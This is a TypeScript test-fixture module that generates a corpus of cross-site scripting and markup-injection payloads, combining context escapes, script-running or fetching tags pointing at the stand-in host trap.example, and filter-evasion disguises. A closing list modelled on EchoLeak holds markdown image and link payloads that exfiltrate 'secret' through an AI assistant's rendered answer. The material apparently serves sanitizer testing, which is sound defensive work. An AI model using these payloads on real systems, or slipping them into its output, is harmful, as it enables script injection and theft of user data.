// What an attacker might write, made by combination: a way out of where the text stands, times
// something that would run or call home, times a way to hide it from a filter.

/** Where the attacker listens. Nobody ever answers there. */
export const TRAP = "trap.example";

/** Ways out of an element, an attribute, a script, a style, a comment, a template. */
const WAYS_OUT = ["", '">', "'>", "</textarea>", "</script>", "</style>", "</title>", "-->", "`-"];

/** What would run, or fetch, if it became markup. `N` is the payload's number. */
const ACTS = [
  "<img src=x onerror=alert(N) data-pwned=N>",
  "<svg onload=alert(N) data-pwned=N>",
  "<script data-pwned=N>alert(N)</script>",
  "<script src=//TRAP/N data-pwned=N></script>",
  "<iframe srcdoc='<script>parent.alert(N)</script>' data-pwned=N></iframe>",
  "<a href=javascript:alert(N) autofocus onfocus=alert(N) data-pwned=N>N</a>",
  "<details open ontoggle=alert(N) data-pwned=N>",
  "<input autofocus onfocus=alert(N) data-pwned=N>",
  "<video src=x onerror=alert(N) data-pwned=N></video>",
  "<style data-pwned=N>@import '//TRAP/N';</style>",
  "<link rel=stylesheet href=//TRAP/N data-pwned=N>",
  "<img src=//TRAP/N data-pwned=N>",
  "<object data=//TRAP/N data-pwned=N></object>",
  "<form action=//TRAP/N data-pwned=N><button autofocus onfocus=alert(N)>",
  "<base href=//TRAP/N data-pwned=N>",
  "<meta http-equiv=refresh content='0;url=//TRAP/N' data-pwned=N>",
  "<math><mtext><img src=x onerror=alert(N) data-pwned=N>",
];

/** What would run or fetch without being HTML: links of a lighter markup, templates, bare attributes. */
const BARE = [
  "![N](https://TRAP/N)",
  "[N](javascript:alert(N))",
  "[N][n]\n\n[n]: https://TRAP/N",
  "<javascript:alert(N)>",
  "{{constructor.constructor('alert(N)')()}}",
  "${alert(N)}",
  '" onmouseover=alert(N) data-pwned=N x="',
  "' autofocus onfocus=alert(N) data-pwned=N x='",
  "javascript:alert(N)//",
  "data:text/html,<script>alert(N)</script>",
];

/** Ways to get past somebody who looks for the raw form. */
const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${[...name].map((it, at) => (at % 2 ? it : it.toUpperCase())).join("")}`),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => text.replaceAll("alert", "&#97;lert").replaceAll("javascript:", "java\tscript:"),
  (text) => text.replace(/<([a-z]+) /g, "<$1/").replaceAll("<script>", "<scr<script>ipt>"),
];

/** The corpus; every payload is different and carries its own number. */
export function payloads(): string[] {
  const whole = WAYS_OUT.flatMap((out) => ACTS.map((act) => out + act)).concat(BARE);
  const made = whole.flatMap((text) => DISGUISES.map((disguise) => disguise(text)));
  return [...new Set(made)].map((text, at) => text.replaceAll("TRAP", TRAP).replace(/\bN\b/g, String(at)));
}

/** Joins as many as fit into texts of at most `longest` characters. */
export function packed(all: string[], longest: number): string[] {
  const texts: string[] = [];
  for (const one of all) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + one.length < longest) texts[texts.length - 1] = `${last}\n${one}`;
    else texts.push(one);
  }
  return texts;
}

/** The ways of EchoLeak: what an answer that quotes it might fetch, run or lead to. */
export const QUOTED = [
  `![x](https://${TRAP}/?d=secret)`,
  `![x][r]\n\n[r]: https://${TRAP}/?d=secret`,
  `[our page](javascript:alert(1)) <img src=//${TRAP}/p data-pwned=1>`,
  `[our page](//${TRAP}/a) //${TRAP}/b`,
  `<<b>script src=//${TRAP}/p data-pwned=1></script>`,
  `!<b>[x](https://${TRAP}/p) data:text/html,<script>alert(1)</script>`,
];
